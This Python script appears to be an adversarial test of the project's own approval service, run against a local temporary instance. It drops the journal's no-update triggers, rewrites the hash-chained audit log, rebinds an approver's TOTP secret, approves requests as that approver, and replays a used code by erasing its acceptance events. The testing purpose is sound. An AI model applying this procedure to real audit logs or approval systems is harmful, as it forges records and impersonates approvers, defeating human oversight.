# attack36 line 3: a database writer rewrites the journal itself: re-binds alice's step-up to the writer's own TOTP
# secret (credential `created` event, totp_binding = sha256("foureyes totp binding\0" + secret)), recomputes every
# later hash (hash = sha256(RFC 8785 JSON of {data, kind, prev_hash, seq, ts_ms})), then approves as alice with a
# code of its own secret. Also: erases alice's `totp_step_accepted` events and replays a used code.
# Arg "seal": the same on a journal sealed by doors holding --seal-key.
import sys, os, time, shutil, json, hashlib, pyotp
sys.path.insert(0, os.path.dirname(__file__)); from lib import *
seal = len(sys.argv) > 1 and sys.argv[1] == "seal"
D = f"/tmp/attack36/a3{'s' if seal else ''}"; shutil.rmtree(D, ignore_errors=True)
e = Env(D, seal=seal); PORT = 18420 + (1 if seal else 0)
e.token("bot", "agent"); e.token("alice", "approver", totp=True)
mine = pyotp.random_base32()
def canon(o): return json.dumps(o, separators=(",", ":"), sort_keys=True, ensure_ascii=False)
def rewrite(edit):
    """edit(seq, kind, data_obj) -> data_obj or None (drop the event); recompute the chain from the first change."""
    import sqlite3
    c = sqlite3.connect(e.db); c.execute("DROP TRIGGER IF EXISTS journal_no_update"); c.execute("DROP TRIGGER IF EXISTS journal_no_delete")
    rows = c.execute("SELECT seq, ts_ms, kind, data, prev_hash, hash, seal FROM journal ORDER BY seq").fetchall()
    c.execute("DELETE FROM journal")
    prev = "0" * 64; seq = 0; remap = {}
    for (s, ts, kind, data, ph, h, sl) in rows:
        d = edit(s, kind, json.loads(data))
        if d is None: continue
        seq += 1; remap[s] = seq
        dt = canon(d)
        nh = hashlib.sha256(canon({"data": d, "kind": kind, "prev_hash": prev, "seq": seq, "ts_ms": ts}).encode()).hexdigest()
        c.execute("INSERT INTO journal (seq, ts_ms, kind, data, prev_hash, hash, seal) VALUES (?,?,?,?,?,?,?)", (seq, ts, kind, dt, prev, nh, sl))
        prev = nh
    for (i, js) in c.execute("SELECT id, journal_seq FROM decisions").fetchall():
        if js in remap: c.execute("UPDATE decisions SET journal_seq = ? WHERE id = ?", (remap[js], i))
    try: c.execute("UPDATE journal_head SET seq = ?, hash = ?", (seq, prev))
    except Exception as ex: print("journal_head:", ex)
    c.commit(); c.close()
def bind(sec): return hashlib.sha256(b"foureyes totp binding\x00" + sec.encode()).hexdigest()
try:
    # sanity: our hash rule and binding rule reproduce the door's
    r = e.sql("SELECT seq, ts_ms, kind, data, prev_hash, hash FROM journal WHERE seq = 2")[0]
    assert hashlib.sha256(canon({"data": json.loads(r[3]), "kind": r[2], "prev_hash": r[4], "seq": r[0], "ts_ms": r[1]}).encode()).hexdigest() == r[5]
    assert json.loads(r[3])["totp_binding"] == bind(e.secret["alice"])
    p = e.serve(PORT)
    wait_fresh_step(12); s = cur_step()
    d1 = e.defer(PORT); print("real code approves #1:", e.approve(PORT, "alice", d1["approval_id"], d1["digest"], code_at(e.secret["alice"], s))[0])
    d2 = e.defer(PORT); d3 = e.defer(PORT)
    # (a) while the server runs
    def rebind(seq, kind, d):
        if kind == "credential" and d.get("action") == "created" and d.get("name") == "alice": d["totp_binding"] = bind(mine)
        return d
    rewrite(rebind); e.sql("UPDATE tokens SET totp_secret = ? WHERE name = 'alice'", (mine,))
    print("(a) running server, journal rebound to my secret, my code:", e.approve(PORT, "alice", d2["approval_id"], d2["digest"], code_at(mine, cur_step())))
    e.stop(p)
    print("    audit/verify after (a):", e.audit())
    # (b) before start
    while cur_step() <= s: time.sleep(0.3)
    p = e.serve(PORT)
    time.sleep(0.5)
    if p.poll() is not None: print("(b) serve refused to start:", open(f"{D}/serve-{PORT}.log").read()[-400:])
    else:
        wait_fresh_step(8)
        print("(b) restarted on rebound journal, my code:", e.approve(PORT, "alice", d2["approval_id"], d2["digest"], code_at(mine, cur_step())))
        e.stop(p)
    print("    audit/verify after (b):", e.audit())
    # (c) erase totp_step_accepted events, replay the used code of step s (only useful inside its window)
    rewrite(lambda seq, kind, d: None if (kind == "credential" and d.get("action") == "totp_step_accepted") else d)
    e.sql("UPDATE tokens SET totp_last_step = NULL, totp_secret = ? WHERE name = 'alice'", (mine,))
    p = e.serve(PORT); time.sleep(0.3)
    if p.poll() is not None: print("(c) serve refused to start:", open(f"{D}/serve-{PORT}.log").read()[-400:])
    else:
        used = e.sql("SELECT max(json_extract(data,'$.step')) FROM journal WHERE data LIKE '%totp_step_accepted%'")
        print("(c) steps left in journal:", used, "replay a used code of mine:",
              e.approve(PORT, "alice", d3["approval_id"], d3["digest"], code_at(mine, cur_step())))
        e.stop(p)
    print("    audit/verify after (c):", e.audit())
    print("approvals:", e.sql("SELECT id, status, decided_by FROM approvals"))
finally:
    e.stop_all()
